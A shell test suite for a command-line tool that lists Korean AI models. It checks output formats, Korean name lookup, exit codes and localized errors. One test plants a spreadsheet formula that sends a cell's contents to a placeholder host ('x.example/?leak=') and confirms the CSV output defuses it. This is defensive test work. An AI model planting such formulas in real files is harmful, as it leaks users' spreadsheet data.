#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# The command line on the bundled dataset: golden outputs of every format,
# name lookup, exit codes, help, and nothing raw reaching a pipe.
. "$top_srcdir/tests/lib.sh"
G="$top_srcdir/tests/golden"
dp() { "$DOKPAMO" --data "$DATA" "$@"; }

# Golden files: exact bytes (every model: --references adds the reference
# models, after the programme's).
for f in table tsv csv json md; do
    dp list --references --sort -params_total_b --format $f > got.$$ 2>&1
    cmp -s got.$$ "$G/list-by-size.$f"; ok $? "list --references --sort -params_total_b --format $f matches its golden file"
done
dp list --sort name --lang ko > got.$$; cmp -s got.$$ "$G/list-by-name-ko.table"; ok $? "list --sort name --lang ko (가나다 order)"
dp list --sort name --lang en > got.$$; cmp -s got.$$ "$G/list-by-name-en.table"; ok $? "list --sort name --lang en"
dp --lang en show k-exaone > got.$$; cmp -s got.$$ "$G/show-k-exaone.table"; ok $? "show k-exaone"
dp show ㅇㅅㅌ > got.$$; cmp -s got.$$ "$G/show-upstage.table"; ok $? "show ㅇㅅㅌ finds Upstage"
rm -f got.$$

# Largest first, every model listed, unknown sizes last.
out=$(dp list --references --sort -params_total_b --format tsv)
is "$(printf '%s\n' "$out" | sed -n 2p | cut -f1)" "k-exaone-2-0" "largest model first"
mini=$("$DOKPAMO" --data "$top_srcdir/tests/data/mini.json" list --references --sort -params_total_b --format tsv)
is "$(printf '%s\n' "$mini" | tail -1 | cut -f1,11)" "ref-big	" "unknown size last"
is "$(printf '%s\n' "$out" | sed 1d | wc -l | tr -d ' ')" \
   "$(dp validate | sed 's/.*, \([0-9]*\) models.*/\1/')" "list --references shows every model"
# The reference models: left out by default (in every format, as in the
# browser); --references (or references = yes) adds them after the
# programme's models; a filter on the reference field chooses itself.
refcol=$(printf '%s\n' "$out" | head -1 | tr '\t' '\n' | grep -n '^reference$' | cut -d: -f1)
nref=$(printf '%s\n' "$out" | sed 1d | cut -f"$refcol" | grep -c true)
[ "$nref" -gt 0 ]; ok $? "the dataset has reference models ($nref)"
is "$(printf '%s\n' "$out" | sed 1d | cut -f"$refcol" | uniq | tr '\n' ' ')" "false true " \
    "--references: every reference model after the programme's, whatever the sort"
def=$(dp list --sort -params_total_b --format tsv)
is "$(printf '%s\n' "$def" | sed 1d | cut -f"$refcol" | sort -u | tr '\n' ' ')" "false " "list: no reference model by default"
is "$(printf '%s\n' "$def" | sed 1d | wc -l | tr -d ' ')" "$(($(printf '%s\n' "$out" | sed 1d | wc -l) - nref))" \
    "list: every programme model by default"
is "$(dp list --filter reference=yes --format tsv | sed 1d | cut -f"$refcol" | sort | uniq -c | tr -s ' ')" " $nref true" \
    "--filter reference=yes: the reference models only"
is "$(dp list --filter reference=no --references --format tsv | sed 1d | wc -l | tr -d ' ')" \
    "$(printf '%s\n' "$def" | sed 1d | wc -l | tr -d ' ')" "--filter reference=no: the programme's models"
printf 'references = yes\n' > refs.$$.conf
is "$(dp --config refs.$$.conf list --format tsv | sed 1d | wc -l | tr -d ' ')" "$(printf '%s\n' "$out" | sed 1d | wc -l | tr -d ' ')" \
    "references = yes in the config file: every model"
rm -f refs.$$.conf
! dp list --lang en | grep -q 'reference models left out'
ok $? "into a pipe: no note about the reference models"
like "$(dp --lang en show deepseek-v3-1)" "Reference model .* yes" "show finds a reference model by name"
like "$(dp --lang en compare deepseek-v3-1 k-exaone --wide)" "DeepSeek-V3\.1" "compare finds a reference model by name"

# Names, aliases, Korean, 초성, case: show finds the model.
for q in 에이닷엑스 k-exaone K-EXAONE 배키 베키 Vekey 케이엑사원 "Solar Open" 솔라 ㅂㅋ; do
    dp show "$q" >/dev/null 2>&1; ok $? "show '$q' finds a record"
done
like "$(dp --lang en show 에이닷엑스)" "A\.X K1" "에이닷엑스 is A.X K1"
like "$(dp --lang en show 배키)" "VAETKI" "배키 is VAETKI"
like "$(dp --lang en show k-exaone)" "K-EXAONE" "k-exaone is K-EXAONE"

# Exit codes.
dp show nothing-like-this >/dev/null 2>&1; is $? 1 "no match: exit 1"
dp show >/dev/null 2>&1; is $? 2 "show without a name: exit 2"
dp --format xml list >/dev/null 2>&1; is $? 2 "bad --format: exit 2"
dp list --sort bogus >/dev/null 2>&1; is $? 2 "bad --sort key: exit 2"
dp frobnicate >/dev/null 2>&1; is $? 2 "unknown command: exit 2"
# The command line's own usage errors speak the mode's language, the hint too;
# the option parser's stay English.
usage() { err=$(dp "$@" 2>&1 >/dev/null); echo "$?/$err"; }
is "$(usage --lang en frobnicate)" "2/dokpamo: unknown command 'frobnicate' (list, show, compare, sources, timeline, benchmarks, contradictions, validate, help)
Try 'dokpamo --help' for more information." "unknown command, in English"
is "$(usage --lang ko frobnicate)" "2/dokpamo: 알 수 없는 명령 'frobnicate' (list, show, compare, sources, timeline, benchmarks, contradictions, validate, help)
자세한 사용법은 'dokpamo --help'를 보세요." "unknown command, in Korean"
is "$(usage --lang ko list extra)" "2/dokpamo: list 명령은 인자를 받지 않음
자세한 사용법은 'dokpamo --help'를 보세요." "list with an operand, in Korean"
is "$(usage --lang en list extra)" "2/dokpamo: list takes no arguments
Try 'dokpamo --help' for more information." "list with an operand, in English"
is "$(usage --lang ko show)" "2/dokpamo: show에는 이름이 꼭 하나 필요함
자세한 사용법은 'dokpamo --help'를 보세요." "show without a name, in Korean"
is "$(usage --lang ko validate a b)" "2/dokpamo: validate에는 파일을 하나까지만 줄 수 있음
자세한 사용법은 'dokpamo --help'를 보세요." "validate with two files, in Korean"
is "$(usage --lang ko contradictions x | head -1)" "2/dokpamo: contradictions 명령은 인자를 받지 않음 (한 항목의 것: --filter about=ID)" \
    "contradictions with an operand, in Korean, with its hint"
is "$(usage --lang ko --bogus)" "2/dokpamo: unknown option '--bogus'
Try 'dokpamo --help' for more information." "the option parser's message and hint stay English"
# A mistyped key: the nearest key, in the user's language; the dataset's
# families of keys (one per stage, claim ...) shortened to one entry.
err=$(dp list --sort -parms_total_b --lang en 2>&1 >/dev/null)
like "$err" '^dokpamo: --sort: unknown sort key "parms_total_b" \(did you mean "params_total_b"\?\); keys are: id name ' \
    "a mistyped --sort key: did you mean"
like "$err" ' stage\.\* \([0-9]+ keys, e\.g\. stage\.written-review\) ' "... the per-stage keys as one family"
# Several models by id: one filter, its values joined by | (issue 14 item 8).
is "$(dp list --filter 'id=vaetki|a-x-k1|k-exaone' --sort id --format tsv | cut -f1 | tr '\n' ' ')" \
    "id a-x-k1 k-exaone vaetki " "--filter 'id=a|b|c': those models"
is "$(dp list --references --filter 'id=vaetki|deepseek-v3-1' --sort id --format tsv | cut -f1 | tr '\n' ' ')" \
    "id vaetki deepseek-v3-1 " "--filter 'id=a|b' --references: a reference model too, after the others"
err=$(dp list --filter 'tga=moe' --lang ko 2>&1 >/dev/null)
like "$err" '^dokpamo: --filter: 알 수 없는 필터 키 "tga" \(혹시 "tag"\?\); 쓸 수 있는 키: tag modality team id ' \
    "a mistyped --filter key, in Korean with --lang ko"
is "$(dp list --filter 'params_total_b>big' --lang ko 2>&1 >/dev/null)" \
    'dokpamo: --filter: 필터 "params_total_b"에는 숫자가 필요함 (받은 값 "big")' "a filter's number error in Korean"
"$DOKPAMO" --data /nonexistent/x.json list >/dev/null 2>&1; is $? 66 "missing dataset: exit 66"

# A write error on stdout is said, with exit 74, for every command.
if [ -w /dev/full ]; then
    for c in "list" "list --format json" "list --format csv" "show k-exaone" "compare k-exaone a-x-k1" \
        "validate" "--help" "--version"; do
        # shellcheck disable=SC2086
        got=$(dp $c 2>&1 >/dev/full; echo "exit $?")
        is "$got" "dokpamo: write error: No space left on device
exit 74" "$c > /dev/full: the reason on stderr, exit 74"
    done
fi
dp list --filter params_total_b\>10000 >/dev/null 2>&1; is $? 1 "filter matching nothing: exit 1"
dp validate >/dev/null; is $? 0 "the bundled dataset validates"
DOKPAMO_DATA="$DATA" "$DOKPAMO" list --format tsv >/dev/null; is $? 0 "\$DOKPAMO_DATA is honoured"

# Help and version.
like "$("$DOKPAMO" --help)" "^Usage: dokpamo" "--help prints usage"
like "$(dp --version)" "^dokpamo [0-9.]+ \(dataset as of [0-9-]+\)" "--version prints the dataset date"

# Nothing raw in a pipe: no ESC or other C0 control except the line ends
# (CRLF in CSV) and the TSV separator.
all=$(for f in table tsv csv json md; do dp list --format $f; done; dp show ㅇㅅㅌ; dp compare k-exaone 배키)
bad=$(printf '%s' "$all" | LC_ALL=C tr -d '\r\n\t' | LC_ALL=C tr -dc '\000-\037\177' | wc -c | tr -d ' ')
is "$bad" 0 "no control bytes in any output"

# Columns line up by display width in the table format: in every row the
# second column starts at the same screen column (Hangul counts 2).
aligned=$(dp list --sort -params_total_b | /usr/bin/python3 -c '
import re, sys, unicodedata
def width(s):
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)
starts = {width(l[:re.search(r"  +", l).end()]) for l in sys.stdin.read().splitlines()}
print("aligned" if len(starts) == 1 else "starts differ: %s" % sorted(starts))')
is "$aligned" aligned "the consortium column starts at the same screen column on every row"
# CSV cells a spreadsheet would run as formulas are text: a leading
# apostrophe, quoted; numbers (also negative ones) stay numbers.
tmp=$(mktemp -d)
/usr/bin/python3 - "$DATA" "$tmp/f.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
m = d["consortia"][0]["models"][0]
m["license"] = '=HYPERLINK("http://x.example/?leak="&A1,"license")'
m["name"]["ko"] = m["name"]["en"] = "@SUM(1+1)"
json.dump(d, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
PY
id=$(/usr/bin/python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["consortia"][0]["models"][0]["id"])' "$tmp/f.json")
out=$("$DOKPAMO" --data "$tmp/f.json" list --filter "id=$id" --format csv 2>/dev/null | sed -n 2p)
like "$out" "^$id,\"'@SUM\\(1\\+1\\)\"," "a name starting with @ is written as '@..., quoted"
like "$out" ",\"'=HYPERLINK\\(\"\"http://x\\.example/\\?leak=\"\"&A1,\"\"license\"\"\\)\"," "=HYPERLINK(...) is written as '=..., quoted"
raw=0
for c in = + - @; do
    printf '%s' "$out" | grep -q -- ",$c" && raw=1
done
ok $raw "no CSV cell starts with = + - or @"
rm -rf "$tmp"

done_testing
